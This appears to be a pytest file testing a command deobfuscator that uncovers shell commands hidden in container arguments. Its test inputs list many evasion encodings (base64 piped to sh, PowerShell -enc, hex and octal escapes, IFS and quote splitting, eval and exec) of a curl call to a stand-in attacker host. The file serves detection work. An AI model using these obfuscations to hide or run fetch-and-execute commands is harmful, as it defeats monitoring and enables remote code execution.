from __future__ import annotations

import base64
import time
from typing import Final

import pytest

from ingest.facets.command import MAX_DECODED, decode_command

HIDDEN: Final = "curl http://evil.example/x"


def b64(text: str, charset: str = "utf-8") -> str:
    return base64.b64encode(text.encode(charset)).decode()


def hex_escapes(text: str) -> str:
    return "".join(f"\\x{ord(character):02x}" for character in text)


def octal_escapes(text: str) -> str:
    return "".join(f"\\{ord(character):03o}" for character in text)


@pytest.mark.parametrize(
    "script",
    [
        HIDDEN,
        f"echo {b64(HIDDEN)} | base64 -d | sh",
        f"echo '{b64(HIDDEN)}'|base64 -d|sh",
        f'echo "{b64(HIDDEN)}"|base64 --decode|bash',
        f"bash<<<$(base64 -d<<<{b64(HIDDEN)})",
        f"x={b64(HIDDEN)};echo $x|base64 -d|sh",
        f"x={b64(HIDDEN + '!')};echo $x|base64 -d|sh",  # ends without padding
        f"echo {b64(HIDDEN).rstrip('=')} | base64 -d",
        f"echo {base64.urlsafe_b64encode(HIDDEN.encode()).decode()} | base64 -d",
        f"echo {b64(b64(HIDDEN))} | base64 -d | base64 -d | sh",
        f"echo {b64(f'echo {b64(HIDDEN)} | base64 -d | sh')} | base64 -d | sh",
        f"pwsh -enc {b64(HIDDEN, 'utf-16-le')}",
        f"printf '{hex_escapes(HIDDEN)}' | sh",
        f"printf '{octal_escapes(HIDDEN)}' | sh",
        f"$'{hex_escapes('curl')}' http://evil.example/x",
        "curl${IFS}http://evil.example/x",
        "curl$IFS'http://evil.example/x'",
        "c'u'rl http://ev\"i\"l.example/x",
        "c\\u\\r\\l http://evil.example/x",
        "cu``rl http://evil.example/x",
        f"eval `echo {b64(HIDDEN)}|base64 -d`",
        f"python3 -c 'import base64;exec(base64.b64decode(\"{b64(HIDDEN)}\"))'",
    ],
)
def test_what_is_hidden_is_shown(script: str) -> None:
    assert HIDDEN in decode_command(["sh", "-c", script])


@pytest.mark.parametrize(
    "args",
    [
        [],
        [""],
        ["ls", "-la", "/"],
        ["nginx", "-g", "daemon off;"],
        ["sleep", "1234567890123456"],
        ["/usr/local/bin/docker-entrypoint.sh", "postgres"],
    ],
)
def test_a_plain_command_is_shown_once(args: list[str]) -> None:
    assert decode_command(args) == " ".join(args)


def test_what_decodes_to_no_text_is_left() -> None:
    binary = base64.b64encode(bytes(range(256))).decode()
    assert decode_command(["echo", binary]) == f"echo {binary}"


@pytest.mark.parametrize(
    "arg",
    [
        "A" * 10_000_000,
        "A " * 5_000_000,
        "QUFBQUFB " * 1_000_000,
        "\\x41" * 2_500_000,
        "\\" * 10_000_000,
        "${IFS}" * 1_600_000,
        "'" * 10_000_000,
        " ".join(b64(f"word number {n}") for n in range(20_000)),
        "\U0001f600" * 2_500_000,
    ],
)
def test_ten_megabytes_are_decoded_in_time_and_bounded(arg: str) -> None:
    started = time.process_time()
    assert len(decode_command(["sh", "-c", arg])) <= MAX_DECODED
    assert time.process_time() - started < 2


def test_nesting_is_undone_a_bounded_number_of_times() -> None:
    text = HIDDEN
    for _ in range(30):
        text = b64(text)
    assert HIDDEN not in decode_command([text])
